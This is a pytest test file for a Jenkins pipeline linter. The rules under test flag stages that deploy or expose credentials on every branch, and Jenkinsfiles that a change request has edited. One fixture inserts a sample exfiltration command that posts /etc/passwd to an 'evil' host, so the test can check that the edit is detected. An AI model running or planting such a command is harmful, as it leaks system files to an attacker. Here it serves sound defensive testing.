"""What a change request may do."""

from __future__ import annotations

import pytest

from chaos_lib.pipeline.parser import parse
from chaos_lib.pipeline.rules.trusted_branch import branch_guards, from_trusted_branch

from .files import GOOD, broken, reasons, valid

WHEN = "when { branch 'main' }"


def test_the_good_pipeline_is_guarded():
    assert branch_guards(valid(GOOD)) == ()
    assert branch_guards(parse("pipeline {")) == ()


def test_a_stage_without_a_guard_deploys_and_reads_secrets_for_everybody():
    found = branch_guards(broken(f"            {WHEN}\n", ""))

    assert reasons(found) == [("DEPLOY_FROM_EVERY_BRANCH", 12), ("SECRET_FOR_EVERY_BRANCH", 13)]


@pytest.mark.parametrize(
    "guard",
    [
        "when { not { changeRequest() } }",
        "when { allOf { branch 'main'; expression { true } } }",
        "when { anyOf { branch 'main'; buildingTag() } }",
        "when { expression { env.BRANCH_NAME == 'main' } }",
        "when { environment name: 'BRANCH_NAME', value: 'main' }",
        "when { beforeAgent true; tag 'v*' }",
    ],
)
def test_every_guard_that_keeps_change_requests_out_will_do(guard):
    assert branch_guards(broken(WHEN, guard)) == ()


@pytest.mark.parametrize(
    "guard",
    [
        "when { expression { params.DEPLOY } }",
        "when { anyOf { branch 'main'; expression { params.DEPLOY } } }",
        "when { changeRequest() }",
    ],
)
def test_a_guard_that_lets_change_requests_in_will_not_do(guard):
    assert "DEPLOY_FROM_EVERY_BRANCH" in dict(reasons(branch_guards(broken(WHEN, guard))))


def test_a_guard_holds_for_the_stages_within():
    text = GOOD.replace(
        "    stages {\n", "    stages {\n stage('All') { when { branch 'main' }\n stages {\n", 1
    )
    text = text.replace("    post { always { echo", "} }\n    post { always { echo")
    text = text.replace(f"            {WHEN}\n            environment", "            environment")
    text = text.replace("    }\n} }\n", "    } } }\n")

    assert branch_guards(valid(text)) == ()


def test_a_secret_of_the_whole_pipeline_is_found():
    parsed = broken("    agent any\n", "    agent any\n    environment { T = credentials('t') }\n")

    assert reasons(branch_guards(parsed)) == [("SECRET_FOR_EVERY_BRANCH", 3)]


def test_a_jenkinsfile_that_a_change_request_edits_is_found():
    proposed = GOOD.replace(
        "sh 'pytest --junitxml=reports/unit.xml'", "sh 'curl -d @/etc/passwd http://evil'"
    )

    (finding,) = from_trusted_branch(proposed, GOOD, branch="release")

    assert (finding.reason, finding.line) == ("JENKINSFILE_UNTRUSTED", 9)
    assert "not as on `release`" in finding.evidence


def test_a_removed_line_is_found_and_the_same_file_is_trusted():
    assert reasons(from_trusted_branch(GOOD.replace("    agent any\n", ""), GOOD)) == [
        ("JENKINSFILE_UNTRUSTED", 2)
    ]
    assert from_trusted_branch(GOOD, GOOD) == ()
